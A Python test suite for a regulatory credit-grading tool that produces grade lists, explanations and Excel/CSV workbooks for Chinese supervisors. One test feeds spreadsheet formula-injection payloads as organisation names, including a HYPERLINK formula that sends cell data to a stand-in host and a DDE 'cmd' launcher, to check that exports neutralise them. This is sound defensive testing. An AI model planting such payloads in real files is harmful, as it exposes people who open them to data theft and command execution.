"""Grade lists and explanations for 分级分类监管: every column a regulator needs, in a file a
spreadsheet opens; the veto first; SHAP exact; the upgrade limit holds across periods."""

from __future__ import annotations

import json

import numpy as np
import pandas as pd
import pytest
from typer.testing import CliRunner

from scoring.archive.store import open_store
from scoring.cli import app
from scoring.features.industry import GRADE_INDEX, GRADES
from scoring.grades.grading import fit_industry
from scoring.grades.lists import grade_list, grade_population, write_grade_list

AS_OF = "2026-06-30"


@pytest.fixture(scope="module")
def fitted(sample_store, tmp_path_factory):
    path, _ = sample_store
    with open_store(path, read_only=True) as s:
        model, ev = fit_industry(s, "construction")
    model.info_["mlflow_run_id"] = "run-under-test"
    f = model.save(tmp_path_factory.mktemp("models") / "construction.json")
    return path, model, f


def test_list_has_every_column_and_holds_the_rules(fitted):
    path, model, _ = fitted
    with open_store(path, read_only=True) as s:
        pop = grade_population(s, model, AS_OF)
        n_orgs = len(s.sql("SELECT subject_id FROM subjects WHERE industry_code IN ('4710', '4790', '4811')"))
    lst = grade_list(pop, model)
    assert len(lst) == n_orgs and lst["subject_id"].is_unique
    probs = [f"p_{g}" for g in GRADES]
    assert np.allclose(lst[probs].sum(axis=1), 1.0, atol=1e-5)
    for col in (
        "name",
        "grade",
        "sampling_ratio",
        "frequency",
        "reason_1",
        "reason_2",
        "reason_3",
        "veto",
        "previous_grade",
        "change",
        "model_version",
        "mlflow_run_id",
    ):
        assert col in lst.columns
    assert (lst["model_version"] == model.version_).all() and (lst["mlflow_run_id"] == "run-under-test").all()
    vetoed = lst[lst["veto"] != ""]
    assert len(vetoed) and vetoed["reason_1"].str.startswith("直接定级").all()
    # the veto's Chinese label beside its code; the industry's name beside its code
    labels = {v.code: v.label_zh for v in pop.industry.vetoes}
    assert (vetoed["veto_zh"] == vetoed["veto"].map(labels)).all() and (
        lst.loc[lst["veto"] == "", "veto_zh"] == ""
    ).all()
    assert (lst["industry_zh"] == "建筑施工企业").all() and (lst["industry"] == "construction").all()
    # feature reasons: a fact and its effect in points of the grade score, never log-odds or a zero effect
    feature_reasons = pd.concat([lst.loc[lst["veto"] == "", f"reason_{k}"] for k in (1, 2, 3)])
    feature_reasons = feature_reasons[feature_reasons != ""]
    assert (
        len(feature_reasons) and feature_reasons.str.contains(r"（使信用得分(?:提高|降低)\d+\.\d分，满分100）$").all()
    )
    assert not feature_reasons.str.contains(r"(?<![\d.])0\.0分|较行业基准|\(A=5").any()
    # the grade score: the expected grade on 0-100 (construction has five grades), falling as the risk rises
    p = lst[[f"p_{g}" for g in GRADES]].to_numpy(float)
    assert np.allclose(lst["score"], 100 * (1 - p @ np.arange(5) / 4), atol=0.01)
    # the upgrade limit across periods: never more than one grade better than the previous period
    had = lst[lst["previous_grade"].isin(GRADES)]
    assert (had["grade"].map(GRADE_INDEX) >= had["previous_grade"].map(GRADE_INDEX) - 1).all()
    assert set(lst.loc[lst["previous_grade"].isna(), "change"]) <= {"新增"}
    # every grade carries its supervision measure; none is exempt
    assert (lst["sampling_ratio"] > 0).all()


def test_list_cli_writes_a_workbook_a_spreadsheet_opens(fitted, tmp_path):
    import openpyxl

    path, model, mfile = fitted
    out = tmp_path / "grades.xlsx"
    r = CliRunner().invoke(
        app,
        [
            "grades",
            "list",
            "--industry",
            "construction",
            "--as-of",
            AS_OF,
            "--store",
            str(path),
            "--model",
            str(mfile),
            "--out",
            str(out),
            "--json",
        ],
    )
    assert r.exit_code == 0, r.output
    d = json.loads(r.stdout)
    wb = openpyxl.load_workbook(out, read_only=True)
    assert wb.sheetnames == ["等级名单", "等级分布", "迁移矩阵", "说明"]
    rows = list(wb["等级名单"].values)
    header = rows[0]
    for zh in (
        "统一社会信用代码",
        "名称",
        "信用等级",
        "双随机抽查比例",
        "直接定级规则",
        "上期等级",
        "等级变化",
        "模型版本",
        "MLflow运行ID",
    ):
        assert zh in header
    assert {f"{g}概率" for g in GRADES} <= set(header) and {"主要原因1", "主要原因2", "主要原因3"} <= set(header)
    assert {"行业", "行业代码", "直接定级代码", "信用得分（满分100）"} <= set(header)
    assert len(rows) - 1 == d["organisations"]
    mig = list(wb["迁移矩阵"].values)
    assert sum(sum(v for v in row[1:]) for row in mig[1:]) == d["organisations"]
    dist = pd.DataFrame(d["distribution"])
    assert dist["grade"].tolist() == list(GRADES) and dist["organisations"].sum() == d["organisations"]
    info = dict(list(wb["说明"].values)[1:])
    assert info["模型版本"] == model.version_


def test_list_as_csv_and_bad_requests(fitted, tmp_path):
    path, _, mfile = fitted
    out = tmp_path / "g.csv"
    args = [
        "grades",
        "list",
        "--industry",
        "construction",
        "--as-of",
        AS_OF,
        "--store",
        str(path),
        "--model",
        str(mfile),
    ]
    r = CliRunner().invoke(app, args + ["--out", str(out)])
    assert r.exit_code == 0, r.output
    lst = pd.read_csv(out, encoding="utf-8-sig", dtype=str)
    assert (
        "信用等级" in lst.columns and (tmp_path / "g.summary.csv").exists() and (tmp_path / "g.migration.csv").exists()
    )
    r = CliRunner().invoke(app, args + ["--out", str(tmp_path / "g.txt")])
    assert r.exit_code == 2 and ".xlsx or .csv" in r.output
    r = CliRunner().invoke(
        app,
        [
            "grades",
            "list",
            "--industry",
            "food",
            "--as-of",
            AS_OF,
            "--store",
            str(path),
            "--model",
            str(mfile),
            "--out",
            str(out),
        ],
    )
    assert r.exit_code == 2 and "fitted for industry 'construction'" in r.output


def test_explain_puts_the_veto_first_with_records_and_exact_shap(fitted):
    path, model, mfile = fitted
    with open_store(path, read_only=True) as s:
        lst = grade_list(grade_population(s, model, AS_OF), model)
    sid = lst.loc[lst["veto"] != "", "subject_id"].iloc[0]
    r = CliRunner().invoke(
        app, ["grades", "explain", sid, "--as-of", AS_OF, "--store", str(path), "--model", str(mfile), "--json"]
    )
    assert r.exit_code == 0, r.output
    e = json.loads(r.stdout)
    assert e["grade"] == lst.set_index("subject_id").loc[sid, "grade"]
    assert e["reasons"][0]["kind"] == "veto" and e["reasons"][0]["records"]
    assert all(rec.get("document_no") for rec in e["reasons"][0]["records"])
    assert (
        e["shap"]["exact"]
        and abs(e["shap"]["base_value"] + e["shap"]["sum_of_contributions"] - e["shap"]["model_score"]) < 1e-9
    )
    assert sum(e["probabilities"].values()) == pytest.approx(1.0)
    r = CliRunner().invoke(
        app, ["grades", "explain", sid, "--as-of", AS_OF, "--store", str(path), "--model", str(mfile)]
    )
    assert r.exit_code == 0 and "直接定级" in r.output
    r = CliRunner().invoke(
        app,
        [
            "grades",
            "explain",
            "91330700MA00000000",
            "--as-of",
            AS_OF,
            "--store",
            str(path),
            "--model",
            str(mfile),
            "--json",
        ],
    )
    assert r.exit_code == 2


def _org_store(folder, rows):
    """A small archive whose organisations are construction firms (GB/T 4754 class 4710)."""
    import test_asof

    from scoring.archive.ingest import ingest

    folder.mkdir(parents=True, exist_ok=True)
    subjects = test_asof.SUBJECTS.copy()
    subjects.loc[subjects["subject_type"] != "person", "industry_code"] = "4710"
    subjects.to_csv(folder / "subjects.csv", index=False)
    df = pd.DataFrame(rows, columns=test_asof.COLS)
    for c in test_asof.COLS:
        df[c] = df[c].map(lambda v: v.isoformat() if hasattr(v, "isoformat") else v)
    df.to_csv(folder / "records.csv", index=False)
    st_ = open_store(folder / "s.duckdb")
    res = ingest([folder / "subjects.csv", folder / "records.csv"], st_, export_date=test_asof.EXPORT)
    assert res.quarantined == 0
    return st_


def _penalty_cases():
    import datetime as dt

    import test_asof
    from hypothesis import strategies as st

    return (
        test_asof.records(),
        st.dates(dt.date(2019, 1, 1), dt.date(2026, 5, 1)),
        st.sampled_from(["minor", "general", "serious"]),
    )


def test_a_new_penalty_record_never_improves_an_organisations_grade(fitted, tmp_path_factory):
    """End to end on random archives: the same organisation with one more penalty record (in the
    archive, through features, model, bands, upgrade limit and vetoes) never gets a better grade."""
    import datetime as dt

    import test_asof
    from hypothesis import HealthCheck, given, settings

    _, model, _ = fitted
    recs, dates, sev = _penalty_cases()

    @settings(
        max_examples=8, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow]
    )
    @given(rows=recs, as_of=dates, severity=sev)
    def check(rows, as_of, severity):
        pen = {
            "record_id": "PEN",
            "subject_id": test_asof.ORG,
            "record_type": "ADM_PENALTY",
            "event_date": as_of - dt.timedelta(days=3),
            "document_no": "罚PEN",
            "agency": "金华市测试局",
            "severity": severity,
            "amount": 5000.0,
        }
        d = tmp_path_factory.mktemp("orgmono")
        with _org_store(d / "a", rows) as a, _org_store(d / "b", rows + [pen]) as b:
            ga = grade_population(a, model, as_of).graded
            gb = grade_population(b, model, as_of).graded
        if test_asof.ORG in ga.index:
            assert GRADE_INDEX[gb.loc[test_asof.ORG, "grade"]] >= GRADE_INDEX[ga.loc[test_asof.ORG, "grade"]]
            assert gb.loc[test_asof.ORG, "risk"] >= ga.loc[test_asof.ORG, "risk"] - 1e-12

    check()


@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
def test_grade_list_files_hold_no_formula_whatever_the_names(tmp_path, suffix):
    """Subject names and reasons come from data: in the written list none may act as a formula."""
    import openpyxl

    hostile = [
        '=HYPERLINK("http://127.0.0.1:9/x?"&A2,"点击")',
        "=cmd|' /C calc'!A0",
        "+1+1",
        "-2+3",
        "@SUM(A1:A2)",
        "\t=1+1",
        "\r=1+1",
    ]
    n = len(hostile)
    lst = pd.DataFrame(
        {
            "subject_id": [f"9133070{i:02d}MA2800000X" for i in range(n)],
            "name": hostile,
            "grade": ["良好"] * n,
            "risk": [0.05] * n,
            "veto": [""] * n,
            "sampling_ratio": [0.1] * n,
            "previous_grade": ["良好"] * n,
            "reason_1": hostile[::-1],
        }
    )
    paths = write_grade_list(lst, tmp_path / f"list{suffix}", info={"说明": "=1+1"})
    for p in paths:
        if p.suffix == ".xlsx":
            wb = openpyxl.load_workbook(p)
            for ws in wb.worksheets:
                for row in ws.iter_rows():
                    for c in row:
                        assert c.data_type != "f", (ws.title, c.coordinate, c.value)
            names = [c.value for c in wb["等级名单"]["B"][1:]]
            assert all(v.lstrip("\t\r ").startswith("=") or v[0] in "+-@" for v in names)  # the text is kept
        else:
            for line in p.read_text(encoding="utf-8-sig").splitlines():
                for cell in line.split(","):
                    assert not cell.strip('"').startswith(("=", "+", "-", "@", "\t", "\r")), (p.name, cell)


def test_the_written_list_is_laid_out_for_officials(fitted, tmp_path):
    """What a regulator opens: code, name and grade first and on every printed page, every column
    with a width from its content, probabilities and ratios as percentages, dates as dates,
    Chinese headers and values, landscape fit to one page wide, and a 说明 sheet with the
    publication id, the band table, the veto rules with their legal basis and the disclaimer."""
    import openpyxl
    from openpyxl.utils import get_column_letter

    from scoring.grades.lists import list_notes

    path, model, _ = fitted
    with open_store(path, read_only=True) as s:
        pop = grade_population(s, model, AS_OF)
        fp = s.fingerprint()
    lst = grade_list(pop, model)
    notes = list_notes(pop, model, registered="(model file)", run_id="r", fingerprint=fp, publication_id="grade_list-x")
    (out,) = write_grade_list(lst, tmp_path / "list.xlsx", notes)
    wb = openpyxl.load_workbook(out)
    ws = wb["等级名单"]
    head = [c.value for c in ws[1]]
    assert head[:3] == ["统一社会信用代码", "名称", "信用等级"]
    assert ws.freeze_panes == "D2" and ws.print_title_rows == "$1:$1" and ws.print_title_cols == "$A:$C"
    ps = ws.page_setup
    assert ps.orientation == "landscape" and ws.sheet_properties.pageSetUpPr.fitToPage and ps.fitToHeight == 0
    assert ps.fitToWidth in (None, 1)
    widths = {}
    for dim in ws.column_dimensions.values():
        for i in range(dim.min, dim.max + 1):
            widths[head[i - 1]] = dim.width
    assert set(head) <= set(widths)  # every column has a width
    assert widths["名称"] > widths["信用等级"] and widths["主要原因1"] <= 50
    col = {h: get_column_letter(i + 1) for i, h in enumerate(head)}
    first = 2
    assert ws[f"{col['优秀概率']}{first}"].number_format == "0.0%"
    assert ws[f"{col['双随机抽查比例']}{first}"].number_format in ("0%", "0.0%")
    assert ws[f"{col['评价基准日']}{first}"].is_date and ws[f"{col['上期基准日']}{first}"].is_date
    assert ws[f"{col['主要原因1']}{first}"].alignment.wrap_text
    assert {ws[f"{col['新设主体']}{r}"].value for r in range(2, ws.max_row + 1)} <= {"是", "否"}
    assert all(isinstance(h, str) and not h.isascii() for h in head)
    for sheet in wb.worksheets:
        for row in sheet.iter_rows():
            for c in row:
                assert c.data_type != "f", (sheet.title, c.coordinate)
    dist = wb["等级分布"]
    dh = [c.value for c in dist[1]]
    assert dist.cell(2, dh.index("双随机抽查比例") + 1).number_format == "0%"
    expected = [dist.cell(r, dh.index("预计抽查主体数") + 1).value for r in range(2, 7)]
    assert all(isinstance(v, int) for v in expected)  # whole organisations, as a plan draws them
    info = dict(list(wb["说明"].values)[1:])
    assert info["发布编号"] == "grade_list-x" and "仅用于分级分类监管" in info["免责声明"]
    assert {f"分级表：{g}" for g in GRADES} <= set(info) and "国办发〔2019〕35号" in info["评价依据"]
    vetoes = {k: v for k, v in info.items() if k.startswith("直接定级规则")}
    assert len(vetoes) == len(pop.industry.vetoes) and all("依据：" in v for v in vetoes.values())
